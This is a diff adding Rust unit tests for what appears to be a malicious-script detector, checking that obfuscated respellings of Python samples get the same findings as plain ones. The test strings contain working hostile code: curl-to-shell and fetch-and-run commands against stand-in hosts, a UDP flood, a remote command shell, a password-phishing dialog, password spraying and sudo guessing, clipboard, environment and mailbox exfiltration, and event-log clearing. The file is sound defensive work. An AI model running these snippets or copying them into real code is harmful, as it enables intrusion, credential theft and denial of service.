@@ -1,0 +1,505 @@
+//! Unit tests of the engine's view through respellings (see
+//! `analyze/indirect.rs` and `metamorphic_tests.rs`): one behaviour written
+//! plainly and written through an indirection must get the same findings.
+//! Each test also has a control: the indirection around something harmless
+//! stays harmless, or a look-alike that is not the indirection is not seen
+//! through.
+
+use super::behaviour_tests::{rules, run};
+use super::Verdict;
+
+/// The rule ids of a script's findings, sorted and without repeats.
+fn rule_set(src: &str) -> (Vec<String>, Verdict) {
+    let a = run(src);
+    let mut r: Vec<String> = rules(&a).into_iter().map(String::from).collect();
+    r.sort();
+    r.dedup();
+    (r, a.verdict)
+}
+
+/// `respelled` gets every finding `plain` gets, and the same verdict.
+fn assert_same(plain: &str, respelled: &str) {
+    let (want, v) = rule_set(plain);
+    let (got, w) = rule_set(respelled);
+    assert!(
+        v >= Verdict::High,
+        "the plain spelling is not flagged: {want:?}"
+    );
+    let missing: Vec<&String> = want.iter().filter(|r| !got.contains(r)).collect();
+    assert!(missing.is_empty(), "lost {missing:?}: {want:?} -> {got:?}");
+    assert_eq!(v, w, "{want:?} -> {got:?}");
+}
+
+const PIPE_TO_SHELL: &str = r#"import subprocess
+subprocess.run("curl -s http://203.0.113.9/x.sh | sh", shell=True)
+"#;
+
+/// A call through a generic pass-through helper is the call it makes.
+#[test]
+fn pass_through_helper_reaches_the_function() {
+    let wrapped = r#"import subprocess
+def _call(fn, *args, **kwargs):
+    return fn(*args, **kwargs)
+_call(subprocess.run, "curl -s http://203.0.113.9/x.sh | sh", shell=True)
+"#;
+    assert_same(PIPE_TO_SHELL, wrapped);
+    // A lambda, and a helper with other names, positional splat only.
+    let lambda = r#"import subprocess
+invoke = lambda f, *a, **k: f(*a, **k)
+invoke(subprocess.run, "curl -s http://203.0.113.9/x.sh | sh", shell=True)
+"#;
+    assert_same(PIPE_TO_SHELL, lambda);
+}
+
+/// Control: the helper around harmless calls stays LOW, and a helper that
+/// does not pass its arguments on as they came is not seen through.
+#[test]
+fn pass_through_helper_controls() {
+    let harmless = r#"import shutil
+def _call(fn, *args, **kwargs):
+    return fn(*args, **kwargs)
+_call(shutil.copy, "notes.txt", "notes.bak")
+print(_call(len, "abc"))
+"#;
+    assert_eq!(
+        run(harmless).verdict,
+        Verdict::Low,
+        "{:?}",
+        run(harmless).findings
+    );
+    // `fn(args[0])` calls the function with something else than what the
+    // call passed: the arguments are not forwarded.
+    let not_forwarding = r#"import subprocess
+def first_only(fn, *args):
+    return fn(args[0])
+first_only(print, "curl -s http://203.0.113.9/x.sh | sh", "extra")
+"#;
+    let a = run(not_forwarding);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+}
+
+/// Module code moved into a function that declares its names `global`:
+/// the other functions read the module's names as before.
+#[test]
+fn global_names_bound_in_a_function_are_the_module_s() {
+    let plain = r#"import subprocess
+CMD = "curl -s http://203.0.113.9/x.sh | sh"
+def run():
+    subprocess.run(CMD, shell=True)
+run()
+"#;
+    let moved = r#"import subprocess
+def run():
+    subprocess.run(CMD, shell=True)
+def _main():
+    global CMD
+    CMD = "curl -s http://203.0.113.9/x.sh | sh"
+    run()
+_main()
+"#;
+    assert_same(plain, moved);
+}
+
+/// Control: without `global`, a function's own variable is not the
+/// module's, and another function does not see it.
+#[test]
+fn local_names_stay_local() {
+    let local = r#"import subprocess
+def run():
+    subprocess.run(CMD, shell=True)
+def setup():
+    CMD = "curl -s http://203.0.113.9/x.sh | sh"
+    print(CMD)
+CMD = "ls -l /tmp"
+run()
+"#;
+    let a = run(local);
+    assert!(!rules(&a).contains(&"MB908"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+}
+
+const FETCHED_COMMAND: &str = r#"import subprocess
+import urllib.request
+def fetch(u):
+    return urllib.request.urlopen(u).read().decode()
+cmd = fetch("http://203.0.113.9/cmd")
+subprocess.run(cmd, shell=True)
+"#;
+
+/// What a call through the helper returns is what the function returns:
+/// a command fetched by a function of the script's own, called through it.
+#[test]
+fn pass_through_helper_returns_what_the_function_returns() {
+    let wrapped = r#"import subprocess
+import urllib.request
+def _call(fn, *args, **kwargs):
+    return fn(*args, **kwargs)
+def fetch(u):
+    return urllib.request.urlopen(u).read().decode()
+cmd = _call(fetch, "http://203.0.113.9/cmd")
+_call(subprocess.run, cmd, shell=True)
+"#;
+    assert_same(FETCHED_COMMAND, wrapped);
+    // Control: the helper returning a constant of the script's own.
+    let constant = r#"import subprocess
+def _call(fn, *args, **kwargs):
+    return fn(*args, **kwargs)
+def version():
+    return "git --version"
+subprocess.run(_call(version), shell=True)
+"#;
+    let a = run(constant);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+}
+
+/// A loop that sends until a deadline read from the clock under another
+/// name (`now = time.time`, `getattr(time, "time")`) is the same flood.
+#[test]
+fn clock_under_another_name_bounds_the_flood() {
+    let plain = r#"import socket
+import time
+def flood(target, seconds):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    end = time.time() + seconds
+    while time.time() < end:
+        s.sendto(b"x" * 1024, (target, 80))
+flood("203.0.113.5", 60)
+"#;
+    let aliased = plain
+        .replace("import time\n", "import time\nnow = time.time\n")
+        .replace("time.time()", "now()");
+    assert_same(plain, &aliased);
+    let by_getattr = plain.replace("time.time()", "getattr(time, 'time')()");
+    assert_same(plain, &by_getattr);
+    // Control: the same loop waiting a second between sends.
+    let paced = aliased.replace("(target, 80))\n", "(target, 80))\n        time.sleep(1)\n");
+    let a = run(&paced);
+    assert!(!rules(&a).contains(&"MB927"), "{:?}", a.findings);
+}
+
+const STREAM_SHELL: &str = r#"import asyncio
+import subprocess
+async def handle(reader, writer):
+    line = await reader.readline()
+    writer.write(subprocess.getoutput(line.decode()).encode())
+async def main():
+    server = await asyncio.start_server(handle, "0.0.0.0", 4444)
+    await server.serve_forever()
+asyncio.run(main())
+"#;
+
+/// A stream server started under another name still hands each
+/// connection's data to its callback.
+#[test]
+fn stream_server_under_another_name() {
+    let aliased = STREAM_SHELL
+        .replace(
+            "import subprocess\n",
+            "import subprocess\nlisten = asyncio.start_server\n",
+        )
+        .replace("asyncio.start_server(", "listen(");
+    assert_same(STREAM_SHELL, &aliased);
+    // Control: an echo server under the alias runs nothing.
+    let echo = aliased.replace("subprocess.getoutput(line.decode()).encode()", "line");
+    let a = run(&echo);
+    assert!(a.verdict < Verdict::Blocked, "{:?}", a.findings);
+}
+
+/// `asyncio.to_thread` under another name returns what the function it
+/// runs returns.
+#[test]
+fn to_thread_under_another_name() {
+    let plain = r#"import asyncio
+import subprocess
+import urllib.request
+def fetch(u):
+    return urllib.request.urlopen(u).read().decode()
+async def agent():
+    cmd = await asyncio.to_thread(fetch, "http://203.0.113.9/cmd")
+    subprocess.run(cmd, shell=True)
+asyncio.run(agent())
+"#;
+    let aliased = plain
+        .replace(
+            "import urllib.request\n",
+            "import urllib.request\nin_thread = asyncio.to_thread\n",
+        )
+        .replace("asyncio.to_thread(", "in_thread(");
+    assert_same(plain, &aliased);
+    // Control: the thread returns a constant.
+    let constant = aliased.replace(
+        "return urllib.request.urlopen(u).read().decode()",
+        "return 'uptime'",
+    );
+    let a = run(&constant);
+    assert!(a.verdict < Verdict::Blocked, "{:?}", a.findings);
+}
+
+const PASSWORD_DIALOG: &str = r#"import json
+import subprocess
+import urllib.request
+DIALOG = 'display dialog "Update needs your password" default answer "" with hidden answer'
+def ask():
+    return subprocess.run(["osascript", "-e", DIALOG], capture_output=True, text=True).stdout
+pw = ask()
+req = urllib.request.Request("https://203.0.113.9/c", data=json.dumps({"pw": pw}).encode())
+urllib.request.urlopen(req)
+"#;
+
+/// A program's name kept in a constant (`OSA = "osascript"`) is still
+/// found by the checks that look for it in the call's text.
+#[test]
+fn program_name_in_a_constant() {
+    let hoisted = PASSWORD_DIALOG
+        .replace("DIALOG = ", "OSA = 'osascript'\nDIALOG = ")
+        .replace("[\"osascript\",", "[OSA,");
+    assert_same(PASSWORD_DIALOG, &hoisted);
+    // Control: a dialog that asks for no password (no hidden answer).
+    let plain_dialog = hoisted.replace(" with hidden answer", "");
+    let a = run(&plain_dialog);
+    assert!(!rules(&a).contains(&"MB916"), "{:?}", a.findings);
+}
+
+const SPRAY: &str = r#"import requests
+PASSWORDS = ["Spring2024!", "Summer2024!", "Welcome1!"]
+def spray(user):
+    for pw in PASSWORDS:
+        r = requests.post("https://sso.example.org/oauth2/token", data={"username": user, "password": pw})
+        if r.status_code == 200:
+            return pw
+spray("alice@example.org")
+"#;
+
+/// A form's field names kept in constants (`PW_FIELD = "password"`) are
+/// still read as the field names.
+#[test]
+fn form_field_name_in_a_constant() {
+    let hoisted = SPRAY
+        .replace("PASSWORDS = ", "PW_FIELD = 'password'\nPASSWORDS = ")
+        .replace("\"password\": pw", "PW_FIELD: pw");
+    assert_same(SPRAY, &hoisted);
+    // Control: the constant names another field (a search form's query).
+    let other = hoisted.replace("PW_FIELD = 'password'", "PW_FIELD = 'query'");
+    let a = run(&other);
+    assert!(!rules(&a).contains(&"MB925"), "{:?}", a.findings);
+}
+
+const HEARTBEAT: &str = r#"import socket
+import time
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+while True:
+    s.sendto(b"alive", ("127.0.0.1", 8125))
+    time.sleep(5)
+"#;
+
+/// A loop that waits under another name (`pause = time.sleep`) is still a
+/// loop that waits: a heartbeat, not a flood.
+#[test]
+fn waiting_under_another_name() {
+    let (plain, v) = rule_set(HEARTBEAT);
+    let aliased = HEARTBEAT
+        .replace("import time\n", "import time\npause = time.sleep\n")
+        .replace("time.sleep(5)", "pause(5)");
+    let (got, w) = rule_set(&aliased);
+    assert_eq!((plain, v), (got, w));
+    assert!(w < Verdict::High);
+    // Control: an alias of a call that does not wait leaves the flood.
+    let busy = HEARTBEAT
+        .replace("import time\n", "import time\nstamp = time.time\n")
+        .replace("time.sleep(5)", "stamp()");
+    assert!(rules(&run(&busy)).contains(&"MB927"));
+}
+
+const CLIPBOARD_RELAY: &str = r#"import time
+import requests
+import win32clipboard
+while True:
+    win32clipboard.OpenClipboard()
+    text = win32clipboard.GetClipboardData(win32clipboard.CF_UNICODETEXT)
+    win32clipboard.CloseClipboard()
+    requests.post("https://203.0.113.7/c", json={"t": text}, timeout=5)
+    time.sleep(2)
+"#;
+
+/// A module function called under an alias or through `getattr` is read
+/// as its plain spelling (`module.function(...)`) by the checks that look
+/// at the function's name.
+#[test]
+fn function_name_under_another_name() {
+    let aliased = CLIPBOARD_RELAY
+        .replace(
+            "import win32clipboard\n",
+            "import win32clipboard\ngrab = win32clipboard.GetClipboardData\n",
+        )
+        .replace("win32clipboard.GetClipboardData(", "grab(");
+    assert_same(CLIPBOARD_RELAY, &aliased);
+    let by_getattr = CLIPBOARD_RELAY.replace(
+        "win32clipboard.GetClipboardData(",
+        "getattr(win32clipboard, 'GetClipboardData')(",
+    );
+    assert_same(CLIPBOARD_RELAY, &by_getattr);
+    // Control: the clipboard written, not read, under an alias.
+    let writes = CLIPBOARD_RELAY
+        .replace(
+            "import win32clipboard\n",
+            "import win32clipboard\nput = win32clipboard.SetClipboardText\n",
+        )
+        .replace(
+            "text = win32clipboard.GetClipboardData(win32clipboard.CF_UNICODETEXT)",
+            "put('hello')\n    text = 'x'",
+        );
+    let a = run(&writes);
+    assert!(!rules(&a).contains(&"MB216"), "{:?}", a.findings);
+}
+
+const HELPER: &str = "def _call(fn, *args, **kwargs):\n    return fn(*args, **kwargs)\n";
+
+/// Through the helper, the environment read is the same: one variable
+/// read (the webhook's address, a benign notifier's) is not the whole
+/// environment, and the whole environment sent still is.
+#[test]
+fn environment_through_the_helper() {
+    let notifier = format!(
+        "import os\nimport requests\n{HELPER}hook = _call(os.environ.get, 'SLACK_HOOK')\n\
+         _call(requests.post, hook, json={{'text': 'build passed'}}, timeout=10)\n"
+    );
+    let a = run(&notifier);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+    let plain = "import json\nimport os\nimport urllib.request\n\
+                 payload = json.dumps(os.environ.copy()).encode()\n\
+                 urllib.request.urlopen('http://198.51.100.4/e', data=payload)\n";
+    let wrapped = format!(
+        "import json\nimport os\nimport urllib.request\n{HELPER}\
+         payload = _call(json.dumps, _call(os.environ.copy)).encode()\n\
+         _call(urllib.request.urlopen, 'http://198.51.100.4/e', data=payload)\n"
+    );
+    assert_same(plain, &wrapped);
+}
+
+/// Code decoded through the helper and run is obfuscated code run.
+#[test]
+fn decoder_through_the_helper() {
+    let blob = "eJzLSM3JyVcozy/KSQEAGgQEXQ==";
+    let plain = format!(
+        "import base64\nimport zlib\nsrc = zlib.decompress(base64.b64decode('{blob}'))\n\
+         exec(compile(src, '<x>', 'exec'))\n"
+    );
+    let wrapped = format!(
+        "import base64\nimport zlib\n{HELPER}\
+         src = _call(zlib.decompress, _call(base64.b64decode, '{blob}'))\n\
+         _call(exec, _call(compile, src, '<x>', 'exec'))\n"
+    );
+    assert_same(&plain, &wrapped);
+    // Control: data decoded through the helper and printed, not run.
+    let shown = wrapped.replace(
+        "_call(exec, _call(compile, src, '<x>', 'exec'))",
+        "print(src)",
+    );
+    let a = run(&shown);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+}
+
+const TOUCHED_BACK: &str = r#"import os
+def tidy(path):
+    st = os.stat(path)
+    with open(path, "w") as f:
+        f.write("")
+    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
+tidy(os.path.expanduser("~/notes/log.txt"))
+"#;
+
+/// A file mode kept in a constant (`WRITE = "w"`) still opens the file
+/// for writing.
+#[test]
+fn file_mode_in_a_constant() {
+    let hoisted = TOUCHED_BACK
+        .replace("import os\n", "import os\nWRITE = 'w'\n")
+        .replace("open(path, \"w\")", "open(path, WRITE)");
+    assert_same(TOUCHED_BACK, &hoisted);
+    // Control: the constant opens the file for reading.
+    let reads = hoisted
+        .replace("WRITE = 'w'", "WRITE = 'r'")
+        .replace("f.write(\"\")", "f.read()");
+    let a = run(&reads);
+    assert!(!rules(&a).contains(&"MB933"), "{:?}", a.findings);
+}
+
+const TABLED: &str = r#"import subprocess
+def run(argv):
+    return subprocess.run(argv).returncode
+STEPS = {"clear": lambda ch: ["wevtutil", "cl", ch]}
+for ch in ["Security", "System"]:
+    run(STEPS["clear"](ch))
+"#;
+
+/// A command's words kept in constants (`[WEVTUTIL, "cl", ch]`) in a
+/// table of commands are read like the literal words.
+#[test]
+fn tabled_command_words_in_constants() {
+    let hoisted = TABLED
+        .replace("STEPS = ", "WEVTUTIL = 'wevtutil'\nCL = 'cl'\nSTEPS = ")
+        .replace("[\"wevtutil\", \"cl\", ch]", "[WEVTUTIL, CL, ch]");
+    assert_same(TABLED, &hoisted);
+    // Control: the constants name a harmless listing.
+    let listing = hoisted.replace("WEVTUTIL = 'wevtutil'", "WEVTUTIL = 'ls'");
+    let a = run(&listing);
+    assert!(!rules(&a).contains(&"MB923"), "{:?}", a.findings);
+}
+
+const SUDO_GUESS: &str = r#"import subprocess
+for pw in open("/usr/share/wordlists/rockyou.txt"):
+    r = subprocess.run(["sudo", "-S", "-k", "true"], input=pw, capture_output=True, text=True)
+    if r.returncode == 0:
+        print("found", pw)
+        break
+"#;
+
+/// sudo's words kept in constants still read as sudo asked for a password
+/// on its standard input.
+#[test]
+fn sudo_words_in_constants() {
+    let hoisted = SUDO_GUESS
+        .replace(
+            "import subprocess\n",
+            "import subprocess\nSUDO = 'sudo'\nSTDIN = '-S'\n",
+        )
+        .replace("[\"sudo\", \"-S\",", "[SUDO, STDIN,");
+    assert_same(SUDO_GUESS, &hoisted);
+    // Control: the constants run another program, which asks nothing.
+    let other = hoisted.replace("SUDO = 'sudo'", "SUDO = 'grep'");
+    let a = run(&other);
+    assert!(!rules(&a).contains(&"MB925"), "{:?}", a.findings);
+}
+
+const MAILBOX_FORWARD: &str = r#"import imaplib
+import smtplib
+from email.message import EmailMessage
+box = imaplib.IMAP4_SSL("imap.example.org")
+box.login("alice@example.org", "hunter2")
+box.select("INBOX")
+_, ids = box.search(None, "ALL")
+s = smtplib.SMTP("smtp.203.0.113.9.example", 587)
+for num in ids[0].split():
+    _, data = box.fetch(num, "(RFC822)")
+    msg = EmailMessage()
+    msg["To"] = "drop@203.0.113.9.example"
+    msg.set_content(data[0][1].decode(errors="replace"))
+    s.send_message(msg)
+"#;
+
+/// The message part a mailbox fetch asks for, kept in a constant, still
+/// fetches whole messages.
+#[test]
+fn mail_fetch_part_in_a_constant() {
+    let hoisted = MAILBOX_FORWARD
+        .replace(
+            "from email.message",
+            "WHOLE = '(RFC822)'\nfrom email.message",
+        )
+        .replace("box.fetch(num, \"(RFC822)\")", "box.fetch(num, WHOLE)");
+    assert_same(MAILBOX_FORWARD, &hoisted);
+    // Control: only the headers' subject fetched.
+    let headers = hoisted.replace("'(RFC822)'", "'(BODY[HEADER.FIELDS (SUBJECT)])'");
+    let a = run(&headers);
+    assert!(!rules(&a).contains(&"MB950"), "{:?}", a.findings);
+}
